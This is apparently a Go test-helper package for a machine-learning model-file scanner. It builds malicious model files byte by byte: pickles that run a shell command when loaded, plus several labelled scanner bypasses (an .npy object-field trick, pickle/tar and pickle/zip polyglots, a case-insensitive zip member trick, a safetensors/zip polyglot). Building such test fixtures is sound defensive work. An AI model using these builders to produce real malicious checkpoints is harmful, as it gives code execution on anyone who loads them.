// Package modeltest builds the hostile model files of the scanner's tests
// and attack cases, byte by byte: pickles whose loading runs a shell
// command, .npy headers, tar and zip archives, and the polyglots that are
// two formats at once. Each builder writes what the real loaders
// (torch.load, np.load) read; the scanner's tests check that they do.
package modeltest

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"math"
)

// EvilPickle is what pickle.dumps writes (protocol 2) for an object whose
// __reduce__ returns (posix.system, (cmd,)): unpickling it runs cmd.
func EvilPickle(cmd string) []byte {
	b := []byte("\x80\x02cposix\nsystem\nq\x00X")
	b = binary.LittleEndian.AppendUint32(b, uint32(len(cmd)))
	b = append(b, cmd...)
	return append(b, "q\x01\x85q\x02Rq\x03."...)
}

// SafeDataPkl is a harmless protocol-2 pickle of {'a': 1}.
var SafeDataPkl = []byte("\x80\x02}q\x00X\x01\x00\x00\x00aK\x01s.")

// NpyFile builds a version 1.0 .npy file from a header dict's text and
// the bytes that follow it, padded as np.save pads.
func NpyFile(header string, body []byte) []byte {
	h := []byte(header)
	pad := (64 - (10+len(h)+1)%64) % 64
	h = append(h, bytes.Repeat([]byte(" "), pad)...)
	h = append(h, '\n')
	b := binary.LittleEndian.AppendUint16([]byte("\x93NUMPY\x01\x00"), uint16(len(h)))
	b = append(b, h...)
	return append(b, body...)
}

// NpyObjectFieldBypass is the confirmed .npy bypass: np.save's header of
// a structured array with an object field, the field spelled 'object'
// instead of '|O', followed by a payload pickle that
// np.load(allow_pickle=True) runs.
func NpyObjectFieldBypass(cmd string) []byte {
	return NpyFile("{'descr': [('a', '<i4'), ('b', 'object')], 'fortran_order': False, 'shape': (1,), }", EvilPickle(cmd))
}

// TarMember is one member of a Go-built tar archive; Type 0 means '0'.
type TarMember struct {
	Name string
	Type byte
	Data []byte
}

const tarBlock = 512

// TarHeader writes a ustar header the way Python's tarfile does.
func TarHeader(name string, typ byte, size int) []byte {
	b := make([]byte, tarBlock)
	copy(b, name)
	copy(b[100:], "0000644\x00")
	copy(b[108:], "0000000\x00")
	copy(b[116:], "0000000\x00")
	copy(b[124:], fmt.Sprintf("%011o\x00", size))
	copy(b[136:], "00000000000\x00")
	b[156] = typ
	copy(b[257:], "ustar\x0000")
	SetTarChecksum(b)
	return b
}

// SetTarChecksum recomputes the checksum of the header block at b.
func SetTarChecksum(b []byte) {
	copy(b[148:156], "        ")
	sum := 0
	for _, c := range b[:tarBlock] {
		sum += int(c)
	}
	copy(b[148:], fmt.Sprintf("%06o\x00 ", sum))
}

// Tar builds an archive of ms ending with two zero blocks.
func Tar(ms []TarMember) []byte {
	var out []byte
	for _, m := range ms {
		typ := m.Type
		if typ == 0 {
			typ = '0'
		}
		out = append(out, TarHeader(m.Name, typ, len(m.Data))...)
		out = append(out, m.Data...)
		out = append(out, make([]byte, (tarBlock-len(m.Data)%tarBlock)%tarBlock)...)
	}
	return append(out, make([]byte, 2*tarBlock)...)
}

func i64(n int64) []byte { return binary.LittleEndian.AppendUint64(nil, uint64(n)) }

// The members of a legacy torch tar checkpoint holding {"w": FloatTensor
// of four ones}, written by hand in protocol 2 (torch no longer writes
// the tar format, but torch.load still reads it).
var (
	LegacySysInfo = []byte("\x80\x02}q\x00.")
	// LegacyStorageCount is the first pickle of the storages and tensors
	// members: one record.
	LegacyStorageCount = []byte("\x80\x02K\x01.")
	LegacyStorages     = bytes.Join([][]byte{
		LegacyStorageCount,
		[]byte("\x80\x02K\x01X\x03\x00\x00\x00cpuctorch\nFloatStorage\n\x87."), // (key 1, 'cpu', torch.FloatStorage)
		i64(4), bytes.Repeat([]byte("\x00\x00\x80\x3f"), 4), // 4 elements of 1.0
		[]byte("\x80\x02]."), // no storage views
	}, nil)
	LegacyTensorRecord = []byte("\x80\x02K\x02K\x01ctorch\nFloatTensor\n\x87.") // (key 2, storage 1, torch.FloatTensor)
	LegacyTensors      = bytes.Join([][]byte{
		LegacyStorageCount, LegacyTensorRecord,
		{1, 0, 0, 0, 0, 0, 0, 0}, i64(4), i64(1), i64(0), // ndim 1, 4 bytes skipped, size, stride, offset
	}, nil)
	LegacyPickle = []byte("\x80\x02}q\x00X\x01\x00\x00\x00wX\x01\x00\x00\x002Qs.") // {'w': persistent id '2'}
)

// LegacyTar builds a legacy torch tar checkpoint, with members replaced
// by over.
func LegacyTar(over map[string][]byte) []byte {
	ms := []TarMember{{"sys_info", 0, LegacySysInfo}, {"pickle", 0, LegacyPickle}, {"storages", 0, LegacyStorages}, {"tensors", 0, LegacyTensors}}
	for i := range ms {
		if b, ok := over[ms[i].Name]; ok {
			ms[i].Data = b
		}
	}
	return Tar(ms)
}

// PickleTarPolyglot is the confirmed polyglot bypass: a pickle (PROTO 4,
// one BINBYTES8 over everything after it, STOP) whose bytes are also a
// tar archive. The pickle is harmless; torch.load opens the tar first and
// unpickles its storages member.
func PickleTarPolyglot(storages []byte) []byte {
	tail := Tar([]TarMember{{"x", 0, nil}, {"sys_info", 0, LegacySysInfo}, {"pickle", 0, LegacyPickle},
		{"storages", 0, storages}, {"tensors", 0, []byte("\x80\x02K\x00.")}})
	b := append(tail, '.')
	// PROTO 4, BINBYTES8 <len>: the first 11 bytes of the tar's first
	// member name; its checksum is recomputed over them.
	copy(b, "\x80\x04\x8e")
	binary.LittleEndian.PutUint64(b[3:11], uint64(len(b)-12))
	SetTarChecksum(b)
	return b
}

// Zip builds a stored zip archive of files, in the order of names.
func Zip(files map[string][]byte, names ...string) []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, n := range names {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: n, Method: zip.Store})
		if err != nil {
			panic(err)
		}
		w.Write(files[n])
	}
	if err := zw.Close(); err != nil {
		panic(err)
	}
	return buf.Bytes()
}

// TorchZipCaseBypass holds archive/DATA.PKL (the payload) before
// archive/data.pkl (harmless): PyTorch's miniz lookup of "data.pkl"
// ignores case and takes the first match.
func TorchZipCaseBypass(cmd string) []byte {
	return Zip(map[string][]byte{"archive/DATA.PKL": EvilPickle(cmd), "archive/data.pkl": SafeDataPkl, "archive/version": []byte("3\n")},
		"archive/DATA.PKL", "archive/data.pkl", "archive/version")
}

// PickleZipPolyglot is a harmless pickle followed by a zip archive whose
// data.pkl runs cmd: zipfile finds the archive by its directory at the
// end.
func PickleZipPolyglot(cmd string) []byte {
	z := Zip(map[string][]byte{"archive/data.pkl": EvilPickle(cmd), "archive/version": []byte("3\n")}, "archive/data.pkl", "archive/version")
	return append([]byte("\x80\x04K\x01."), z...)
}

// SafetensorsZipPolyglot is a valid safetensors file whose one tensor's
// bytes are a zip archive with a payload data.pkl.
func SafetensorsZipPolyglot(cmd string) []byte {
	z := Zip(map[string][]byte{"archive/data.pkl": EvilPickle(cmd), "archive/version": []byte("3\n")}, "archive/data.pkl", "archive/version")
	hdr, _ := json.Marshal(map[string]any{"w": map[string]any{"dtype": "U8", "shape": []int{len(z)}, "data_offsets": []int{0, len(z)}}})
	b := append(binary.LittleEndian.AppendUint64(nil, uint64(len(hdr))), hdr...)
	return append(b, z...)
}

// Safetensors writes the format by hand: an 8-byte little-endian header
// length, the JSON header, the data.
func Safetensors(tensors map[string][]float32) []byte {
	hdr := map[string]any{}
	var data []byte
	for name, v := range tensors {
		start := len(data)
		for _, f := range v {
			data = binary.LittleEndian.AppendUint32(data, math.Float32bits(f))
		}
		hdr[name] = map[string]any{"dtype": "F32", "shape": []int{len(v)}, "data_offsets": []int{start, len(data)}}
	}
	h, _ := json.Marshal(hdr)
	b := append(binary.LittleEndian.AppendUint64(nil, uint64(len(h))), h...)
	return append(b, data...)
}
